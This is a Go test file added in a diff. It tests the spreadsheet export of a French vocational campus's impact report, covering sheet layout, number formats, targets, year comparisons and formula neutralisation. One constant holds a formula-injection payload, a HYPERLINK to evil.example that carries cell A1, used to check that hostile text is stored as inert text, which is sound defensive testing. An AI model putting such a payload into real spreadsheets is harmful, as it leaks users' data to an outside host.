@@ -1,0 +1,299 @@
+package export
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"github.com/cmq-greencity/greencity/charts"
+	"github.com/cmq-greencity/greencity/internal/xlsxtest"
+	"github.com/cmq-greencity/greencity/targets"
+	"github.com/cmq-greencity/greencity/trend"
+)
+
+func f(v float64) *float64 { return &v }
+
+// hostile is a category that a spreadsheet would run as a formula.
+const hostile = `=HYPERLINK("http://evil.example/?"&A1,"clic")`
+
+// report is a small report of 2025 over three years, 2024 missing: the
+// figures of the seed report, a hostile action name, a survey, two targets
+// and the comparison of years.
+func report() charts.Report {
+	const survey = "Engagement tour lycée 2025"
+	r := charts.Report{Campus: "CMQ Green City BFC", Year: 2025, Figures: []charts.Figure{
+		{ID: "animations", Label: "Animations", Value: 80, N: 80, Unit: "animations"},
+		{ID: "participants", Label: "Personnes impactées", Value: 4604, N: 4604, Unit: "personnes"},
+		{ID: "participants", Label: "Personnes impactées", Dimension: "public", Category: "collégiens", Value: 2087, N: 2087, Unit: "personnes"},
+		{ID: "participants", Label: "Personnes impactées", Dimension: "action", Category: hostile, Value: 12, N: 12, Unit: "personnes"},
+		{ID: "girls_share", Label: "Part de filles", Value: 0.365, N: 4241, Unit: "part"},
+		{ID: "orientation_confirmed_rate", Label: "Orientation confirmée", Survey: survey, Value: 15.0 / 18, N: 18, CILow: f(0.608), CIHigh: f(0.942), Unit: "part"},
+		{ID: "interest_uplift", Label: "Progression de l'intérêt", Survey: survey, Value: 1.0 / 3, N: 17, Unit: "évolution"},
+		{ID: "survey_change", Label: "Évolution", Survey: survey, Question: "interet", QuestionLabel: "Ton intérêt ?", Value: 1.59, N: 17,
+			Unit: "points sur 5", Test: "wilcoxon", PValue: f(0.004), Note: "petit échantillon"},
+		{ID: "survey_likert", Label: "Réponses", Survey: survey, Question: "interet", QuestionLabel: "Ton intérêt ?", Wave: "après",
+			Unit: "part", Note: "moins de 10 répondants", WithheldBelow: 10},
+		{ID: "attractiveness", Label: "Attractivité des formations", Value: 1.63, N: 10, Unit: "candidats par place"},
+		{ID: "new_indicator", Label: "Nouvel indicateur", Value: 7, N: 7, Unit: "personnes"},
+	}}
+	attr := targets.Target{Indicator: "attractiveness", BaselineYear: 2023, BaselineValue: f(1.4), TargetYear: 2030, Multiplier: f(2)}
+	orient := targets.Target{Indicator: "orientation_confirmed_rate", Survey: "Engagement tour lycée", BaselineYear: 2024, TargetYear: 2030, TargetValue: f(0.9)}
+	r.Trajectories = []charts.Trajectory{
+		{Indicator: "attractiveness", Label: "Doubler l'attractivité des formations", IndicatorLabel: "Attractivité des formations",
+			Unit: "candidats par place", Direction: "up", BaselineYear: 2023, TargetYear: 2030, Multiplier: f(2),
+			Result: targets.Evaluate(attr, []targets.Point{{Year: 2023, Value: 1.4}, {Year: 2025, Value: 1.63}}, 2025)},
+		{Indicator: "orientation_confirmed_rate", IndicatorLabel: "Orientation confirmée", Survey: "Engagement tour lycée",
+			Unit: "part", Direction: "up", BaselineYear: 2024, TargetYear: 2030,
+			Result: targets.Evaluate(orient, []targets.Point{{Year: 2025, Value: 15.0 / 18, CILow: f(0.608), CIHigh: f(0.942)}}, 2025)},
+	}
+	k := trend.Key{ID: "participants"}
+	a := trend.Key{ID: "attractiveness"}
+	lines := trend.Compare([]trend.Point{
+		{Key: k, Year: 2023, Value: 1681, Version: 1}, {Key: a, Year: 2023, Value: 1.4, Version: 1},
+		{Key: k, Year: 2025, Value: 4604, Version: 1}, {Key: a, Year: 2025, Value: 1.63, Version: 2},
+		{Key: k, Year: 2026, Value: 5000, Version: 1},
+	}, []int{2023, 2024, 2025, 2026})
+	r.Comparison = &charts.Comparison{Years: []int{2023, 2024, 2025, 2026}, Missing: []int{2024}, Rows: []charts.ComparisonRow{
+		{ID: "participants", Label: "Personnes impactées", Unit: "personnes", Cells: lines[0].Cells},
+		{ID: "attractiveness", Label: "Attractivité des formations", Unit: "candidats par place", Cells: lines[1].Cells},
+	}}
+	return r
+}
+
+var defs = []Definition{
+	{ID: "participants", Label: "Personnes impactées", Definition: "Somme des participants.", Version: 1,
+		Sources: []string{"2025/actions.xlsx", "2025/participations/a.xlsx"}},
+	{ID: "orientation_confirmed_rate", Label: "Orientation confirmée", Definition: "Part des 4 et 5.", Version: 2,
+		Sources: []string{"2025/questionnaires/et.xlsx"}},
+	{ID: "qpv_share", Label: "Part QPV", Definition: "Part des QPV.", Version: 1},
+}
+
+// open writes the workbook of r and opens it again.
+func open(t *testing.T, r charts.Report) *excelize.File {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := Write(&buf, r, defs); err != nil {
+		t.Fatalf("Write: %v", err)
+	}
+	x, err := excelize.OpenReader(&buf, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatalf("open the workbook: %v", err)
+	}
+	t.Cleanup(func() { x.Close() })
+	return x
+}
+
+// rows reads a sheet as raw values.
+func rows(t *testing.T, x *excelize.File, sheet string) [][]string {
+	t.Helper()
+	rs, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatalf("read %s: %v", sheet, err)
+	}
+	return rs
+}
+
+// numFmt is the number format code of a cell.
+func numFmt(t *testing.T, x *excelize.File, sheet, ref string) string {
+	t.Helper()
+	id, err := x.GetCellStyle(sheet, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	st, err := x.GetStyle(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.CustomNumFmt == nil {
+		return ""
+	}
+	return *st.CustomNumFmt
+}
+
+func TestWrite_sheets(t *testing.T) {
+	x := open(t, report())
+	want := []string{SheetPeople, SheetAnimations, SheetSurveys, SheetProgrammes, SheetOthers, SheetTargets, SheetYears, SheetDefinitions}
+	if d := cmp.Diff(want, x.GetSheetList()); d != "" {
+		t.Errorf("sheets (-want +got):\n%s", d)
+	}
+	// Every sheet: header frozen, filters on the whole table.
+	filters := map[string]string{}
+	for _, dn := range x.GetDefinedName() {
+		if dn.Name == "_xlnm._FilterDatabase" {
+			filters[dn.Scope] = dn.RefersTo
+		}
+	}
+	for _, s := range want {
+		p, err := x.GetPanes(s)
+		if err != nil || !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
+			t.Errorf("%s: panes %+v (%v), want the first row frozen", s, p, err)
+		}
+		if !strings.HasPrefix(filters[s], "'"+s+"'!$A$1:") {
+			t.Errorf("%s: filter %q, want one over the table from A1", s, filters[s])
+		}
+	}
+	if got := filters[SheetPeople]; got != "'Personnes'!$A$1:$O$5" {
+		t.Errorf("filter of %s = %q, want the header and its 4 rows", SheetPeople, got)
+	}
+}
+
+// TestWrite_figures reads the figures back: numbers stored as numbers, with
+// the report's formats, texts neutralised, nothing lost.
+func TestWrite_figures(t *testing.T) {
+	x := open(t, report())
+	people := rows(t, x, SheetPeople)
+	want := [][]string{
+		FigureHeader,
+		{"participants", "Personnes impactées", "", "", "", "", "", "4604", "personnes", "4604"},
+		{"participants", "Personnes impactées", "", "", "", "public", "collégiens", "2087", "personnes", "2087"},
+		{"participants", "Personnes impactées", "", "", "", "action", "'" + hostile, "12", "personnes", "12"},
+		{"girls_share", "Part de filles", "", "", "", "", "", "0.365", "part", "4241"},
+	}
+	if d := cmp.Diff(want, people); d != "" {
+		t.Errorf("%s (-want +got):\n%s", SheetPeople, d)
+	}
+	for _, c := range []struct{ sheet, ref, format string }{
+		{SheetPeople, "H2", FormatCount}, {SheetPeople, "J2", FormatCount}, {SheetPeople, "H5", FormatShare},
+		{SheetSurveys, "H2", FormatShare}, {SheetSurveys, "K2", FormatShare}, {SheetSurveys, "H3", FormatChange},
+		{SheetSurveys, "N4", FormatPValue}, {SheetProgrammes, "H2", FormatMean},
+	} {
+		typ, err := x.GetCellType(c.sheet, c.ref)
+		if err != nil || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
+			t.Errorf("%s!%s is of type %v (%v), want a number", c.sheet, c.ref, typ, err)
+		}
+		if got := numFmt(t, x, c.sheet, c.ref); got != c.format {
+			t.Errorf("%s!%s has the format %q, want %q", c.sheet, c.ref, got, c.format)
+		}
+	}
+	if typ, _ := x.GetCellType(SheetPeople, "G4"); typ == excelize.CellTypeFormula {
+		t.Error("the hostile action name became a formula")
+	}
+	if f, _ := x.GetCellFormula(SheetPeople, "G4"); f != "" {
+		t.Errorf("the hostile action name holds the formula %q", f)
+	}
+	surveys := rows(t, x, SheetSurveys)
+	if d := cmp.Diff([]string{"orientation_confirmed_rate", "Orientation confirmée", "Engagement tour lycée 2025", "", "", "", "",
+		"0.833333333333333", "part", "18", "0.608", "0.942"}, surveys[1]); d != "" {
+		t.Errorf("%s row 2 (-want +got):\n%s", SheetSurveys, d)
+	}
+	// A paired figure and a figure withheld by the small-cell rule: "< 10",
+	// no n, and the reason, as the report shows them.
+	want = [][]string{
+		{"survey_change", "Évolution", "Engagement tour lycée 2025", "Ton intérêt ?", "", "", "", "1.59", "points sur 5", "17", "", "", "wilcoxon", "0.004", "petit échantillon"},
+		{"survey_likert", "Réponses", "Engagement tour lycée 2025", "Ton intérêt ?", "après", "", "", "< 10", "part", "", "", "", "", "", "moins de 10 répondants"},
+	}
+	if d := cmp.Diff(want, surveys[3:5]); d != "" {
+		t.Errorf("%s rows 4-5 (-want +got):\n%s", SheetSurveys, d)
+	}
+	if got := rows(t, x, SheetOthers)[1][0]; got != "new_indicator" {
+		t.Errorf("%s holds %q, want the indicator the report has no place for", SheetOthers, got)
+	}
+}
+
+func TestWrite_targets(t *testing.T) {
+	x := open(t, report())
+	got := rows(t, x, SheetTargets)
+	want := [][]string{
+		TargetsHeader,
+		{"Doubler l'attractivité des formations", "attractiveness", "", "hausse", "2023", "1.4", "2030", "2.8", "2",
+			"2025", "1.63", "1.8", "0.164285714285714", "0.234", "en retard sur la trajectoire", "", "", "", "behind"},
+		{"Orientation confirmée", "orientation_confirmed_rate", "Engagement tour lycée", "hausse", "2024", "", "2030", "", "",
+			"", "", "", "", "", "pas de données pour juger", "", "", "", "no_data"},
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("%s (-want +got):\n%s", SheetTargets, d)
+	}
+	for _, c := range []struct{ ref, format string }{{"E2", FormatYear}, {"F2", FormatMean}, {"M2", FormatPercent}, {"N2", FormatSignedMean}} {
+		if got := numFmt(t, x, SheetTargets, c.ref); got != c.format {
+			t.Errorf("%s!%s has the format %q, want %q", SheetTargets, c.ref, got, c.format)
+		}
+	}
+}
+
+// TestWrite_years checks the years side by side: a missing year is an empty
+// cell, not zero, no change is computed across it, and the changed
+// definition is named.
+func TestWrite_years(t *testing.T) {
+	x := open(t, report())
+	got := rows(t, x, SheetYears)
+	want := [][]string{
+		{"Indicateur", "Libellé", "Enquête", "Question", "Vague", "Ventilation", "Catégorie", "Unité", "2023", "2024", "Évolution 2024", "Évolution 2024 (%)",
+			"2025", "Évolution 2025", "Évolution 2025 (%)", "2026", "Évolution 2026", "Évolution 2026 (%)", "Versions de la définition", "Définition modifiée"},
+		{"participants", "Personnes impactées", "", "", "", "", "", "personnes", "1681", "", "", "", "4604", "", "", "5000", "396", "0.0860121633362294",
+			"2023 : v1, 2025 : v1, 2026 : v1"},
+		{"attractiveness", "Attractivité des formations", "", "", "", "", "", "candidats par place", "1.4", "", "", "", "1.63", "", "", "", "", "",
+			"2023 : v1, 2025 : v2", "2025 (v1 → v2)"},
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("%s (-want +got):\n%s", SheetYears, d)
+	}
+	if typ, _ := x.GetCellType(SheetYears, "J2"); typ != excelize.CellTypeUnset {
+		t.Errorf("%s!J2 (2024, missing) is of type %v, want an empty cell", SheetYears, typ)
+	}
+	if got := numFmt(t, x, SheetYears, "Q2"); got != FormatSignedCount {
+		t.Errorf("change of participants has the format %q, want %q", got, FormatSignedCount)
+	}
+}
+
+func TestWrite_definitions(t *testing.T) {
+	x := open(t, report())
+	want := [][]string{
+		DefinitionsHeader,
+		{"participants", "Personnes impactées", "1", "Somme des participants.", "", "4604", "2025/actions.xlsx, 2025/participations/a.xlsx"},
+		{"orientation_confirmed_rate", "Orientation confirmée", "2", "Part des 4 et 5.", "Engagement tour lycée 2025", "18", "2025/questionnaires/et.xlsx"},
+		{"qpv_share", "Part QPV", "1", "Part des QPV."},
+	}
+	if d := cmp.Diff(want, rows(t, x, SheetDefinitions)); d != "" {
+		t.Errorf("%s (-want +got):\n%s", SheetDefinitions, d)
+	}
+}
+
+func TestNeutralize(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1+1": "'=1+1", "+33": "'+33", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx",
+		"Lycée": "Lycée", "": "", "a=b": "a=b",
+	} {
+		if got := Neutralize(in); got != want {
+			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestWrite_libreOffice opens the workbook in LibreOffice (headless) and
+// reads every sheet back as CSV: the figures are those written. Skipped
+// when LibreOffice is not installed.
+func TestWrite_libreOffice(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+	var buf bytes.Buffer
+	if err := Write(&buf, report(), defs); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	sheets := xlsxtest.ReadWithLibreOffice(t, path)
+	if d := cmp.Diff([]string{"participants", "Personnes impactées", "", "", "", "", "", "4604", "personnes", "4604", "", "", "", "", ""}, sheets[SheetPeople][1]); d != "" {
+		t.Errorf("LibreOffice reads %s row 2 as (-want +got):\n%s", SheetPeople, d)
+	}
+	if got := sheets[SheetPeople][3][6]; got != "'"+hostile {
+		t.Errorf("LibreOffice reads the hostile name as %q, want the text %q", got, "'"+hostile)
+	}
+	// LibreOffice writes a cell with a percentage format as "83.3...%".
+	if got := sheets[SheetSurveys][1][7]; got != "83.3333333333333%" {
+		t.Errorf("LibreOffice reads the orientation share as %q, want 83.3333333333333%%", got)
+	}
+	if got := sheets[SheetProgrammes][1][7]; got != "1.63" {
+		t.Errorf("LibreOffice reads attractiveness as %q, want 1.63", got)
+	}
+	if got := sheets[SheetYears][1][9]; got != "" {
+		t.Errorf("LibreOffice reads the missing 2024 as %q, want an empty cell", got)
+	}
+	if got := sheets[SheetTargets][1][14]; got != "en retard sur la trajectoire" {
+		t.Errorf("LibreOffice reads the first target's status as %q", got)
+	}
+}
